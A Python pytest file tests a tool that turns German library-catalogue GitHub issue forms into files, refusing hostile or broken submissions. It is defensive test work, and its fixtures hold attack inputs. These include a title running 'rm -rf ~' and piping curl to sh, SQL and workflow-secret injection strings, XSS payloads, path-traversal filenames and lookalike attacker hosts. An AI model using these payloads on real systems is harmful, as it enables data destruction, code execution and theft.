"""``catalogue from-issue``: form issues as GitHub renders them become valid files – and
hostile or broken ones become German error comments, never files."""

from __future__ import annotations

import datetime as dt
import json
import subprocess
import sys
from pathlib import Path

import pytest
from catalogue_files import write_catalogue
from issue_render import render

from generator.adapters.cli import main
from generator.contribute.adoption import add_adopted
from generator.contribute.from_issue import Submission, add_materials, submission_from_issue
from generator.contribute.issue_body import files_block
from generator.contribute.pull_request import error_comment, pull_request_title
from generator.rules.forms import (
    MAX_ATTACHMENTS,
    MAX_MEASURES,
    Form,
    adoption_form,
    correction_form,
    files_form,
    library_form,
    library_measure_form,
    measure_form,
)
from generator.rules.personal_data import personal_data_message
from generator.validate.catalogue import load_catalogue, load_taxonomy

TODAY = dt.date(2026, 11, 23)


MEASURE = {
    "title": "Bücherkiste für die Kita",
    "summary": "Jeden Monat bringt die Bücherei eine Kiste mit Bilderbüchern in die Kita.",
    "libraries": "musterdorf",
    "topics": "Leseförderung (lesefoerderung), Schule und Kita (schule-kita)",
    "audiences": "Kinder (kinder)",
    "status": "laufend (running)",
    "period_start": "2024-09",
    "effort_level": "gering (low)",
    "staff_hours": "24",
    "budget_eur": "80.50",
    "partners": "Kita Regenbogen\nFörderverein",
    "outcomes": "Ausgeliehene Bücher: 420\nBeteiligte Gruppen: 3",
    "links": "Flyer: https://example.org/flyer.pdf",
    "situation": "Die Kita liegt weit weg von der Bücherei.",
    "implementation": (
        "Wir packen jeden Monat eine Kiste.\n\n### Was in die Kiste kommt\n\n- 30 Bücher"
    ),
    "results": "Mehr Familien kommen in die Bücherei.",
    "tips": "Kisten mit Rollen kaufen.",
    "collaboration": "",
    "consent": "x",
}

LIBRARY = {
    "name": "Gemeindebücherei Neudorf",
    "kind": "Bibliothek (library)",
    "municipality": "Neudorf",
    "state": "Hessen",
    "population": "2300",
    "area_m2": "90",
    "staff_fte": "0.5",
    "volunteers": "4",
    "website": "https://www.neudorf.example/buecherei",
    "email": "buecherei@neudorf.example",
    "email_public": "x",
    "toolkit_date": "2025-02-01",
    "toolkit_priorities": "Leseförderung (lesefoerderung), Ehrenamt (ehrenamt)",
    "about": "Kleine Bücherei im **Dorfgemeinschaftshaus**.",
    "consent": "x",
}


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return write_catalogue(tmp_path)


def submit(root: Path, body: str, **kw) -> Submission:
    taxonomy, _ = load_taxonomy(root)
    return submission_from_issue(body, root, taxonomy, today=TODAY, **kw)


def forms(root: Path) -> tuple[Form, Form]:
    taxonomy, _ = load_taxonomy(root)
    return measure_form(taxonomy), library_form(taxonomy)


def test_realistic_measure_becomes_a_valid_file(root):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, MEASURE))
    assert result.errors == []
    assert result.path == "measures/buecherkiste-fuer-die-kita.md"
    (root / result.path).write_text(result.text, encoding="utf-8")
    loaded = load_catalogue(root)
    assert loaded.problems.errors == []
    measure = loaded.catalogue.measures["buecherkiste-fuer-die-kita"]
    assert measure.title == "Bücherkiste für die Kita"
    assert measure.topics == ["lesefoerderung", "schule-kita"]
    assert measure.status == "running"
    assert measure.published == TODAY
    assert measure.effort.budget_eur == 80.5
    assert [o.value for o in measure.outcomes] == [420, 3]
    assert measure.materials[0].url == "https://example.org/flyer.pdf"
    assert "### Was in die Kiste kommt" in measure.body  # a heading of the contributor's own
    assert result.text.splitlines()[1].startswith("# yaml-language-server: $schema=")


def test_realistic_library_becomes_a_valid_file(root):
    _, library_form = forms(root)
    result = submit(root, render(library_form, LIBRARY).replace("\n", "\r\n"))  # CRLF as sent
    assert result.errors == [], result.errors
    assert result.path == "libraries/gemeindebuecherei-neudorf.yml"
    (root / result.path).write_text(result.text, encoding="utf-8")
    loaded = load_catalogue(root)
    assert loaded.problems.errors == []
    library = loaded.catalogue.libraries["gemeindebuecherei-neudorf"]
    assert (library.population, library.staff_fte, library.state) == (2300, 0.5, "Hessen")
    assert library.email == "buecherei@neudorf.example"
    assert library.toolkit.priorities == ["lesefoerderung", "ehrenamt"]


def test_pasted_invisible_line_separators_become_line_breaks(root):
    _, library_form = forms(root)
    answers = {**LIBRARY, "about": "Erste Zeile\u2028zweite Zeile\u2029dritte\x85vierte"}
    result = submit(root, render(library_form, answers))
    assert result.errors == [], result.errors
    (root / result.path).write_text(result.text, encoding="utf-8")
    loaded = load_catalogue(root)
    assert loaded.problems.errors == []
    about = loaded.catalogue.libraries["gemeindebuecherei-neudorf"].about
    assert about == "Erste Zeile\nzweite Zeile\ndritte\nvierte"


def test_invalid_answers_get_german_errors_named_by_form_field(root):
    measure_form, _ = forms(root)
    answers = {**MEASURE, "libraries": "musterdorff", "staff_hours": "1.200,5",
               "summary": "x" * 301, "period_end": "2023-01"}  # fmt: skip
    result = submit(root, render(measure_form, answers))
    text = "\n".join(result.errors)
    assert "Bibliothek: Bibliothek „musterdorff“ gibt es nicht – meinten Sie „musterdorf“?" in text
    assert "Zusammenfassung: „summary“ ist 301 Zeichen lang" in text
    assert "Arbeitsstunden insgesamt:" in text
    assert "Ende: Das Ende (2023-01) liegt vor dem Beginn (2024-09)." in text
    assert not result.valid


def test_missing_required_answers_and_consent(root):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, {**MEASURE, "topics": "", "consent": ""}))
    assert "„Themen“ ist ein Pflichtfeld, aber leer." in result.errors
    assert "Das Einverständnis zur Veröffentlichung fehlt." in result.errors


def test_existing_id_is_not_overwritten(root):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, {**MEASURE, "title": "Lesesommer"}))
    assert any("„lesesommer“ gibt es schon (measures/lesesommer.md)" in e for e in result.errors)
    assert not result.valid


@pytest.mark.parametrize(
    "title",
    [
        "$(rm -rf ~) `id` ; echo pwned && curl http://x | sh",
        'Titel" ; touch /tmp/pwned ; echo "',
        "--help",
        "'; DROP TABLE measures; --",
        "${{ secrets.GITHUB_TOKEN }}",
    ],
)
def test_shell_metacharacters_are_plain_text(root, tmp_path, title):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, {**MEASURE, "title": title}))
    assert result.errors == [], result.errors
    (root / result.path).write_text(result.text, encoding="utf-8")
    loaded = load_catalogue(root)
    assert loaded.problems.errors == []
    assert loaded.catalogue.measures[result.id].title == title
    assert "/" not in result.id
    assert result.id == result.id.strip("-")


@pytest.mark.parametrize(
    ("field", "value", "expected"),
    [
        ("situation", "<script>alert(1)</script>", "<script>"),
        ("implementation", '<img src=x onerror="alert(1)">', "HTML"),
        ("results", "[Klick](javascript:alert(document.cookie))", "javascript"),
        ("tips", "[x](data:text/html;base64,PHNjcmlwdD4=)", "data"),
    ],
)
def test_html_and_dangerous_links_are_refused(root, field, value, expected):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, {**MEASURE, field: value}))
    assert not result.valid
    assert any(expected in e for e in result.errors), result.errors


def test_markdown_injection_cannot_break_out_of_the_front_matter(root):
    measure_form, _ = forms(root)
    sneaky = "Echt\n---\nstatus: completed\nlibraries: [verbund]\n---\n# Übernommen"
    answers = {**MEASURE, "summary": sneaky, "partners": "A\n---\nB: [x]"}
    result = submit(root, render(measure_form, answers))
    assert result.errors == [], result.errors
    (root / result.path).write_text(result.text, encoding="utf-8")
    measure = load_catalogue(root).catalogue.measures[result.id]
    assert measure.status == "running"
    assert measure.libraries == ["musterdorf"]
    assert measure.summary.startswith("Echt --- status: completed")
    assert measure.partners == ["A", "B: [x]"]


def test_a_heading_of_the_form_inside_an_answer_is_refused(root):
    measure_form, _ = forms(root)
    answers = {**MEASURE, "situation": "Text\n\n### Bibliothek\n\nverbund"}
    result = submit(root, render(measure_form, answers))
    assert any("„### Bibliothek“ kommt 2-mal vor" in e for e in result.errors)
    assert not result.path


def test_oversized_body_is_refused(root):
    measure_form, _ = forms(root)
    body = render(measure_form, {**MEASURE, "situation": "Sehr lang. " * 7000})
    result = submit(root, body)
    assert any("höchstens 65.536" in e for e in result.errors)
    assert not result.path


def test_oversized_field_is_reported(root):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, {**MEASURE, "title": "Lesen " * 30}))
    assert any("Titel der Maßnahme: „title“ ist 179 Zeichen lang" in e for e in result.errors)


def test_body_edited_after_the_label_is_not_taken_over(root):
    measure_form, _ = forms(root)
    labelled = render(measure_form, MEASURE)
    edited = labelled.replace("Kita Regenbogen", "Kita Regenbogen\nhttps://spam.example")
    result = submit(root, labelled, current_body=edited)
    assert not result.valid
    assert "nachdem das Label „uebernehmen“ gesetzt wurde" in result.errors[0]
    # Line endings or trailing blanks alone are no edit.
    assert submit(root, labelled, current_body=labelled.replace("\n", "\r\n") + "\n").valid


def test_issue_not_from_a_form(root):
    result = submit(root, "Hallo, wir haben eine tolle Idee! <b>Bitte übernehmen</b>")
    assert not result.valid
    assert "nicht aus dem Formular" in result.errors[0]


def test_error_comment_keeps_contributor_text_inert():
    submission = Submission(
        errors=["Titel: „@redaktion ```` [x](https://evil.example) <img src=x>“ ist zu lang"]
    )
    comment = error_comment(submission)
    block = comment.split("```text\n", 1)[1].split("\n```", 1)[0]
    # inside the fence: no mention, no link
    assert "@redaktion" in block
    assert "`" not in block
    assert comment.count("```") == 2


# --- the command, as the workflow runs it ----------------------------------------------------


def event_file(tmp_path: Path, body: str, number: int = 42) -> Path:
    path = tmp_path / "event.json"
    issue = {"number": number, "body": body, "labels": [{"name": "einreichung"}]}
    event = {"action": "labeled", "label": {"name": "uebernehmen"}, "issue": issue}
    path.write_text(json.dumps(event), encoding="utf-8")
    return path


def test_command_writes_file_outputs_and_pull_request_texts(root, tmp_path):
    measure_form, _ = forms(root)
    body = render(measure_form, MEASURE)
    out, outputs = tmp_path / "out", tmp_path / "github-output"
    current = tmp_path / "current.md"
    current.write_text(body, encoding="utf-8")
    code = main(["from-issue", "--root", str(root), "--event", str(event_file(tmp_path, body)),
                 "--current-body-file", str(current), "--write", "--out-dir", str(out),
                 "--github-output", str(outputs), "--today", "2026-11-23"])  # fmt: skip
    assert code == 0
    assert (root / "measures/buecherkiste-fuer-die-kita.md").is_file()
    assert outputs.read_text(encoding="utf-8").splitlines() == [
        "valid=true",
        "path=measures/buecherkiste-fuer-die-kita.md",
        "branch=einreichung/issue-42-buecherkiste-fuer-die-kita",
        "paths=measures/buecherkiste-fuer-die-kita.md",
        "count=1",
        "kind=measure",
    ]
    assert (out / "paths.txt").read_text(encoding="utf-8") == (
        "measures/buecherkiste-fuer-die-kita.md\n"
    )
    copied = out / "datei/measures/buecherkiste-fuer-die-kita.md"
    assert copied.read_bytes() == (root / "measures/buecherkiste-fuer-die-kita.md").read_bytes()
    title = (out / "pr-title.txt").read_text(encoding="utf-8")
    assert title == "Maßnahme: Bücherkiste für die Kita"
    assert "Closes #42" in (out / "pr-body.md").read_text(encoding="utf-8")
    assert load_catalogue(root).problems.errors == []


def test_command_writes_the_error_comment_and_no_file(root, tmp_path):
    measure_form, _ = forms(root)
    body = render(measure_form, {**MEASURE, "situation": "<script>alert(1)</script>"})
    out, outputs = tmp_path / "out", tmp_path / "github-output"
    code = main(["from-issue", "--root", str(root), "--event", str(event_file(tmp_path, body)),
                 "--write", "--out-dir", str(out), "--github-output", str(outputs)])  # fmt: skip
    assert code == 1
    assert outputs.read_text(encoding="utf-8") == "valid=false\nkind=measure\n"
    assert "Ausgangslage:" in (out / "comment.md").read_text(encoding="utf-8")
    assert not (root / "measures/buecherkiste-fuer-die-kita.md").exists()


def test_command_as_a_subprocess_with_a_body_file(root, tmp_path):
    _, library_form = forms(root)
    body = tmp_path / "body.md"
    body.write_text(render(library_form, LIBRARY), encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "generator", "from-issue", "--root", str(root),
         "--body-file", str(body)],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("# yaml-language-server: $schema=../schema/library.schema.json")
    assert "Traceback" not in result.stderr


def test_command_usage_errors(root, tmp_path):
    assert main(["from-issue", "--root", str(root), "--body-file", str(tmp_path / "nix")]) == 2


# --- checked against the real catalogue, never through its links ------------------------


def test_a_near_duplicate_of_an_existing_measure_is_warned_as_in_validate(root):
    measure_form, _ = forms(root)
    body = render(measure_form, {**MEASURE, "title": "Lesesommer mit den Grundschulen"})
    submission = submit(root, body)
    assert submission.valid, submission.errors
    assert any("ähnelt sehr dem der Maßnahme „lesesommer“" in w for w in submission.warnings)


def test_references_are_checked_against_the_real_catalogue(root):
    measure_form, _ = forms(root)
    body = render(measure_form, {**MEASURE, "libraries": "musterdorf, gibts-nicht"})
    errors = submit(root, body).errors
    assert any("gibts-nicht" in e for e in errors), errors


def test_a_dangling_link_in_the_place_of_the_new_file_is_not_written_through(root, tmp_path):
    outside = tmp_path / "ausserhalb.md"
    (root / "measures/buecherkiste-fuer-die-kita.md").symlink_to(outside)
    measure_form, _ = forms(root)
    submission = submit(root, render(measure_form, MEASURE))
    assert not submission.valid
    assert "gibt es schon" in submission.errors[0]
    assert not outside.exists()


def test_a_link_in_the_catalogue_is_not_followed_when_checking(root, tmp_path):
    secret = tmp_path / "geheim.yml"
    secret.write_text("name: Geheim\n", encoding="utf-8")
    (root / "libraries/geheim.yml").symlink_to(secret)
    _, library_form = forms(root)
    submission = submit(root, render(library_form, LIBRARY))
    assert submission.valid, submission.errors
    assert secret.read_text(encoding="utf-8") == "name: Geheim\n"


# Three different strings; ruff reads every lone surrogate as U+FFFD and sees duplicates.
@pytest.mark.parametrize("broken", ["\ud800", "\udfff", "a\udc80b"])  # noqa: PT014
def test_half_a_character_pair_is_a_german_error_not_a_traceback(root, tmp_path, broken):
    measure_form, _ = forms(root)
    body = render(measure_form, {**MEASURE, "situation": f"Text {broken} mehr"})
    out = tmp_path / "out"
    code = main(["from-issue", "--root", str(root), "--event", str(event_file(tmp_path, body)),
                 "--write", "--out-dir", str(out)])  # fmt: skip
    assert code == 1
    assert "unvollständiges Zeichen" in (out / "comment.md").read_text(encoding="utf-8")


def test_unreadable_input_is_a_german_usage_error(root, tmp_path, capsys):
    not_utf8 = tmp_path / "body.md"
    not_utf8.write_bytes(b"\xff\xfe kaputt")
    assert main(["from-issue", "--root", str(root), "--body-file", str(not_utf8)]) == 2
    assert "kein UTF-8-Text" in capsys.readouterr().err


# --- a new library with its first measure: one submission, one pull request -----------------


def combined(root: Path) -> Form:
    taxonomy, _ = load_taxonomy(root)
    return library_measure_form(taxonomy)


COMBINED = {**LIBRARY, **MEASURE, "libraries": ""}


def run(root: Path, tmp_path: Path, body: str, *extra: str) -> tuple[int, dict[str, str], Path]:
    """``from-issue`` as the workflow runs it: outputs as a dict, the --out-dir folder."""
    out, outputs = tmp_path / "out", tmp_path / "github-output"
    code = main(["from-issue", "--root", str(root), "--event", str(event_file(tmp_path, body)),
                 "--write", "--out-dir", str(out), "--github-output", str(outputs),
                 "--today", "2026-11-23", *extra])  # fmt: skip
    lines = outputs.read_text(encoding="utf-8").splitlines() if outputs.exists() else []
    return code, dict(line.split("=", 1) for line in lines), out


def test_combined_form_gives_one_submission_with_both_files(root, tmp_path):
    code, outputs, out = run(root, tmp_path, render(combined(root), COMBINED))
    assert code == 0
    paths = ["libraries/gemeindebuecherei-neudorf.yml", "measures/buecherkiste-fuer-die-kita.md"]
    assert outputs["valid"] == "true"
    assert outputs["kind"] == "combined"
    assert outputs["paths"] == " ".join(paths)
    assert outputs["count"] == "2"
    assert outputs["path"] == ""  # several files: a workflow that copies only `path` stops
    assert outputs["branch"] == "einreichung/issue-42-buecherkiste-fuer-die-kita"
    assert (out / "paths.txt").read_text(encoding="utf-8").splitlines() == paths
    for path in paths:
        assert (out / "datei" / path).read_bytes() == (root / path).read_bytes()
    title = (out / "pr-title.txt").read_text(encoding="utf-8")
    assert title == (
        "Bibliotheksprofil und Maßnahme: Gemeindebücherei Neudorf – Bücherkiste für die Kita"
    )
    body = (out / "pr-body.md").read_text(encoding="utf-8")
    assert all(f"`{path}`" in body for path in paths)
    assert "Closes #42" in body
    loaded = load_catalogue(root)
    assert loaded.problems.errors == []
    assert loaded.catalogue.measures["buecherkiste-fuer-die-kita"].libraries == [
        "gemeindebuecherei-neudorf"
    ]


def test_combined_form_errors_name_the_fields_of_both_parts(root):
    answers = {**COMBINED, "population": "2.300,5", "status": ""}
    result = submit(root, render(combined(root), answers))
    assert not result.valid
    assert "„Stand“ ist ein Pflichtfeld, aber leer." in result.errors
    assert any(e.startswith("Einwohner im Einzugsgebiet:") for e in result.errors), result.errors


def test_combined_form_refuses_an_existing_library(root):
    answers = {**COMBINED, "name": "Gemeindebücherei Musterdorf X"}
    assert submit(root, render(combined(root), answers)).valid
    answers = {**COMBINED, "name": "Musterdorf"}
    result = submit(root, render(combined(root), answers))
    assert any("„musterdorf“ gibt es schon (libraries/musterdorf.yml)" in e for e in result.errors)


def test_a_library_issue_is_still_a_library_and_a_measure_still_a_measure(root):
    measure_form, library_form = forms(root)
    assert submit(root, render(library_form, LIBRARY)).kind == "library"
    assert submit(root, render(measure_form, MEASURE)).kind == "measure"
    assert submit(root, render(combined(root), COMBINED)).kind == "combined"


# --- the files the website's form writes ----------------------------------------------------


LIBRARY_FILE = """\
# yaml-language-server: $schema=../schema/library.schema.json
name: "Gemeindebücherei Kleinhausen"
kind: library
municipality: "Kleinhausen"
state: "Hessen"
population: 3200
area_m2: 95
staff_fte: 0.5
"""

MEASURE_FILE = """\
---
# yaml-language-server: $schema=../schema/measure.schema.json
title: "Vorlesen im Dorfladen"
summary: "Jeden Mittwoch lesen Ehrenamtliche im Dorfladen vor."
libraries: [gemeindebuecherei-kleinhausen]
topics: [lesefoerderung]
status: running
materials:
  - title: "Bericht"
    url: "https://example.org/bericht"
published: 2026-11-23
---

## Ausgangslage

Der Dorfladen ist der Treffpunkt im Ort.

### Einverständnis

Eine Überschrift des Formulars im Text der Maßnahme: im Codeblock keine Überschrift.

```
### Dateien
```
"""

FILES = {
    "libraries/gemeindebuecherei-kleinhausen.yml": LIBRARY_FILE,
    "measures/vorlesen-im-dorfladen.md": MEASURE_FILE,
}


def files_body(files: dict[str, str] | str, **answers: str) -> str:
    block = files if isinstance(files, str) else files_block(files)
    return render(files_form(), {"files": block, "consent": "x", **answers})


def test_files_from_the_website_become_one_submission(root, tmp_path):
    block = files_block(FILES)
    assert "````markdown\n" in block  # longer than the measure's own ``` fence
    code, outputs, out = run(root, tmp_path, files_body(FILES, message="Danke! @redaktion"))
    assert code == 0, (out / "comment.md").read_text(encoding="utf-8")
    assert outputs["kind"] == "files"
    assert outputs["count"] == "2"
    for path, text in FILES.items():
        assert (root / path).read_text(encoding="utf-8") == text  # byte for byte
    assert load_catalogue(root).problems.errors == []
    body = (out / "pr-body.md").read_text(encoding="utf-8")
    assert "```text\nDanke! @redaktion\n```" in body  # the message quoted, inert


def test_files_errors_name_file_and_line(root):
    broken = {**FILES, "measures/vorlesen-im-dorfladen.md": MEASURE_FILE.replace(
        "status: running", "status: laeuft")}  # fmt: skip
    result = submit(root, files_body(broken))
    assert not result.valid
    assert any(e.startswith("measures/vorlesen-im-dorfladen.md, Zeile 7:") for e in result.errors)


def test_files_alone_for_a_library_in_the_catalogue(root):
    measure = MEASURE_FILE.replace("[gemeindebuecherei-kleinhausen]", "[musterdorf]")
    result = submit(root, files_body({"measures/vorlesen-im-dorfladen.md": measure}))
    assert result.valid, result.errors
    assert result.paths == ["measures/vorlesen-im-dorfladen.md"]


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"measures/../../etc/passwd.md": MEASURE_FILE}, "kein erlaubter Dateiname"),
        ({"libraries/../betreiber.yml": LIBRARY_FILE}, "kein erlaubter Dateiname"),
        ({"measures/vorlesen/boese.pdf": "x"}, "kein erlaubter Dateiname"),
        ({".github/workflows/x.yml": LIBRARY_FILE}, "kein erlaubter Dateiname"),
        ({"measures/Gross.md": MEASURE_FILE}, "kein erlaubter Dateiname"),
        ({"measures/index.md": MEASURE_FILE}, "reserviert"),
        ({"libraries/musterdorf.yml": LIBRARY_FILE}, "gibt es schon"),
        (
            {**FILES, "libraries/zweite.yml": LIBRARY_FILE.replace("Kleinhausen", "Zwei")},
            "höchstens ein Bibliotheksprofil",
        ),
        (
            {f"measures/m{i}.md": MEASURE_FILE for i in range(MAX_MEASURES + 1)},
            f"höchstens {MAX_MEASURES} Maßnahmen",
        ),
    ],
)
def test_hostile_or_extra_files_are_german_errors_never_files(root, tmp_path, files, expected):
    code, outputs, out = run(root, tmp_path, files_body(files))
    assert code == 1
    assert outputs["valid"] == "false"
    comment = (out / "comment.md").read_text(encoding="utf-8")
    assert expected in comment, comment
    assert not (out / "datei").exists()
    assert not (out / "paths.txt").exists()
    assert not (tmp_path / "etc").exists()
    assert not (root / ".github").exists()
    assert sorted(p.name for p in (root / "libraries").iterdir()) == [
        "musterdorf.yml", "musterstadt.yml", "verbund.yml"]  # fmt: skip


@pytest.mark.parametrize(
    "block",
    [
        "Hallo Redaktion, hier die Datei:\n\n" + files_block(FILES),  # text around it
        files_block(FILES).replace("````markdown", "````md"),  # another fence
        files_block(FILES).replace("```yaml", "```markdown"),  # wrong kind
        files_block(FILES).rsplit("````", 1)[0],  # never closed
        "#### measures/a b.md\n\n```markdown\n---\n---\n```",  # a space in the name
    ],
)
def test_a_changed_files_section_is_refused(root, block):
    result = submit(root, files_body(block))
    assert not result.valid
    assert not result.files
    assert any(e.startswith("Dateien:") or "Codeblock" in e for e in result.errors), result.errors


def test_files_body_with_half_a_character_pair_or_too_long(root):
    broken = {**FILES, "measures/vorlesen-im-dorfladen.md": MEASURE_FILE + "\ud83d\n"}
    assert "unvollständiges Zeichen" in submit(root, files_body(broken)).errors[0]
    huge = {**FILES, "measures/vorlesen-im-dorfladen.md": MEASURE_FILE + "Text. " * 12000}
    assert any("höchstens 65.536" in e for e in submit(root, files_body(huge)).errors)


# --- corrections are handled by hand ----------------------------------------------------------


def test_a_correction_issue_never_becomes_a_file(root, tmp_path):
    body = render(correction_form(), {
        "entry": "Lesesommer (measures/lesesommer.md)",
        "correction": "Die Öffnungszeiten haben sich geändert.",
    })  # fmt: skip
    code, outputs, out = run(root, tmp_path, body)
    assert code == 1
    assert outputs == {"valid": "false", "kind": "correction"}
    comment = (out / "comment.md").read_text(encoding="utf-8")
    assert "von der Redaktion von Hand bearbeitet" in comment
    assert "kein automatischer Pull Request" in comment
    assert not (out / "paths.txt").exists()


def test_a_correction_label_wins_over_what_the_body_looks_like(root):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, MEASURE), labels=["einreichung", "korrektur"])
    assert result.manual
    assert not result.valid
    assert not result.files
    # A body mixing a correction with a measure's headings is a correction too.
    mixed = render(correction_form(), {"entry": "x", "correction": "y"})
    assert submit(root, mixed + "\n\n" + render(measure_form, MEASURE)).manual


# --- files attached to the issue --------------------------------------------------------------

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
FILE_URL = "https://github.com/user-attachments/files/17812345/Lesepass%20Sommer.pdf"
IMAGE_URL = "https://github.com/user-attachments/assets/0f3c4b1e-8a2d-4c5e-9f10-123456789abc"


def fake_fetch(contents: dict[str, bytes]):
    calls: list[str] = []

    def fetch(url: str) -> bytes:
        calls.append(url)
        if url not in contents:
            raise AssertionError(f"unexpected download {url}")
        return contents[url]

    fetch.calls = calls  # type: ignore[attr-defined]
    return fetch


def test_attached_pdf_and_image_become_materials(root, tmp_path, monkeypatch):
    from generator.contribute import attachments

    fetch = fake_fetch({FILE_URL: PDF, IMAGE_URL: PNG})
    monkeypatch.setattr(attachments, "fetch", fetch)
    answers = {**MEASURE, "attachments": (
        f"Lesepass (Vorlage): [Lesepass Sommer.pdf]({FILE_URL})\n"
        f'<img width="300" alt="Image" src="{IMAGE_URL}" />'
    )}  # fmt: skip
    measure_form, _ = forms(root)
    code, outputs, out = run(root, tmp_path, render(measure_form, answers), "--fetch-attachments")
    assert code == 0, (out / "comment.md").read_text(encoding="utf-8")
    paths = [
        "measures/buecherkiste-fuer-die-kita.md",
        "measures/buecherkiste-fuer-die-kita/lesepass-sommer.pdf",
        "measures/buecherkiste-fuer-die-kita/bild.png",
    ]
    assert (out / "paths.txt").read_text(encoding="utf-8").splitlines() == paths
    assert outputs["path"] == ""
    assert outputs["count"] == "3"
    assert (root / paths[1]).read_bytes() == PDF == (out / "datei" / paths[1]).read_bytes()
    measure = load_catalogue(root).catalogue.measures["buecherkiste-fuer-die-kita"]
    assert [(m.title, m.file, m.url) for m in measure.materials] == [
        ("Flyer", None, "https://example.org/flyer.pdf"),
        ("Lesepass (Vorlage)", "lesepass-sommer.pdf", None),
        ("Bild", "bild.png", None),
    ]
    assert fetch.calls == [FILE_URL, IMAGE_URL]


def test_attachments_on_the_website_route_go_into_the_materials_block(root):
    fetch = fake_fetch({FILE_URL: PDF})
    body = files_body(FILES, attachments=f"[Lesepass Sommer.pdf]({FILE_URL})")
    result = submit(root, body, fetch=fetch)
    assert result.valid, result.errors
    assert result.paths[-1] == "measures/vorlesen-im-dorfladen/lesepass-sommer.pdf"
    text = result.files[1].text
    assert '    url: "https://example.org/bericht"\n  - title: "Lesepass Sommer"\n' in text


@pytest.mark.parametrize(
    ("line", "content", "expected"),
    [
        (f"[Lesepass.pdf]({FILE_URL})", PNG, "dem Inhalt nach keine .pdf-Datei"),
        (
            "[setup.exe](https://github.com/user-attachments/files/1/setup.exe)",
            b"MZ",
            "Dateityp „.exe“ ist nicht erlaubt",
        ),
        ("[x.pdf](https://evil.example/user-attachments/files/1/x.pdf)", PDF, "keine auf GitHub"),
        ("[x.pdf](http://github.com/user-attachments/files/1/x.pdf)", PDF, "keine auf GitHub"),
        ("https://github.com.evil.example/user-attachments/files/1/x.pdf", PDF, "keine auf GitHub"),
        ("[x](https://github.com/login?return_to=/files/1/x.pdf)", PDF, "keine auf GitHub"),
        ("Nur ein Titel ohne Datei", PDF, "steht keine angehängte Datei"),
    ],
)
def test_bad_attachments_are_german_errors(root, line, content, expected):
    measure_form, _ = forms(root)

    def fetch(url: str) -> bytes:
        return content

    result = submit(root, render(measure_form, {**MEASURE, "attachments": line}), fetch=fetch)
    assert not result.valid
    assert any(expected in e for e in result.errors), result.errors


def test_a_failed_download_is_a_german_error(root):
    from generator.contribute.attachments import AttachmentError

    def fetch(url: str) -> bytes:
        raise AttachmentError("Die Datei ist größer als 10 MiB; bitte verkleinern.")

    measure_form, _ = forms(root)
    body = render(measure_form, {**MEASURE, "attachments": f"[a.pdf]({FILE_URL})"})
    result = submit(root, body, fetch=fetch)
    assert "Materialien als Datei: Die Datei ist größer als 10 MiB; bitte verkleinern." in (
        result.errors
    )


def test_attachments_without_fetching_are_not_silently_dropped(root):
    measure_form, _ = forms(root)
    body = render(measure_form, {**MEASURE, "attachments": f"[a.pdf]({FILE_URL})"})
    result = submit(root, body)
    assert not result.valid
    assert any("--fetch-attachments" in e for e in result.errors)


NEW_ITEM = '  - title: "T"\n    file: "t.pdf"\n'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("---\ntitle: x\n---\n", "---\ntitle: x\nmaterials:\n" + NEW_ITEM + "---\n"),
        ("---\nmaterials: []\nx: 1\n---\n", "---\nmaterials:\n" + NEW_ITEM + "x: 1\n---\n"),
        (  # a list at the key's own indentation keeps it
            "---\nmaterials:\n- title: a\n  url: u\n\nx: 1\n---\n",
            '---\nmaterials:\n- title: a\n  url: u\n- title: "T"\n  file: "t.pdf"\n\nx: 1\n---\n',
        ),
        ("---\nmaterials: [{title: a, url: u}]\n---\n", None),
        ("kein Kopfbereich\n", None),
    ],
)
def test_add_materials_keeps_the_shape_of_the_front_matter(text, expected):
    added = add_materials(text, [("T", "t.pdf")])
    assert (added[0] if added else None) == expected


def test_too_many_attachments_are_refused_before_any_download(root):
    lines = "\n".join(
        f"[d{i}.pdf](https://github.com/user-attachments/files/{i}/d{i}.pdf)"
        for i in range(MAX_ATTACHMENTS + 1)
    )
    fetch = fake_fetch({})
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, {**MEASURE, "attachments": lines}), fetch=fetch)
    assert any(f"höchstens {MAX_ATTACHMENTS}" in e for e in result.errors)
    assert fetch.calls == []


# --- personal data stays out of free text -----------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value", "found", "where"),
    [
        ("summary", "Fragen beantwortet leitung@musterdorf.example gern.",
         "E-Mail-Adresse „leitung@musterdorf.example“", "in der Zusammenfassung"),
        ("summary", "Anmeldung unter 0211 123 45 67, jeden Montag.",
         "Telefonnummer „0211 123 45 67“", "in der Zusammenfassung"),
        ("title", "Lesekiste – Anruf genügt: +49 211 1234567",
         "Telefonnummer „+49 211 1234567“", "im Titel"),
        ("implementation", "Wir packen die Kisten.\n\nAnmeldung bei Frau Muster: 0171/1234567.",
         "Telefonnummer „0171/1234567“", "im Text der Maßnahme"),
        ("tips", "Schreiben Sie an a.muster@gmx.example, sie hilft gern.",
         "E-Mail-Adresse „a.muster@gmx.example“", "im Text der Maßnahme"),
    ],
)  # fmt: skip
def test_personal_data_in_free_text_gets_the_german_message_at_its_field(
    root, field, value, found, where
):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, {**MEASURE, field: value}))
    assert not result.valid
    label = measure_form.element(field).label
    assert f"{label}: {personal_data_message(found, where)}" in result.errors, result.errors
    assert any(
        e.startswith(f"{label}: {found} {where}. Persönliche Daten gehören nicht in freie Texte.")
        for e in result.errors
    )


def test_personal_data_is_reported_in_the_comment_and_no_file_is_written(root, tmp_path):
    measure_form, _ = forms(root)
    answers = {**MEASURE, "results": "Fragen gern an info@kita-regenbogen.example oder "
               "unter 06221 987654."}  # fmt: skip
    code, outputs, out = run(root, tmp_path, render(measure_form, answers))
    assert code == 1
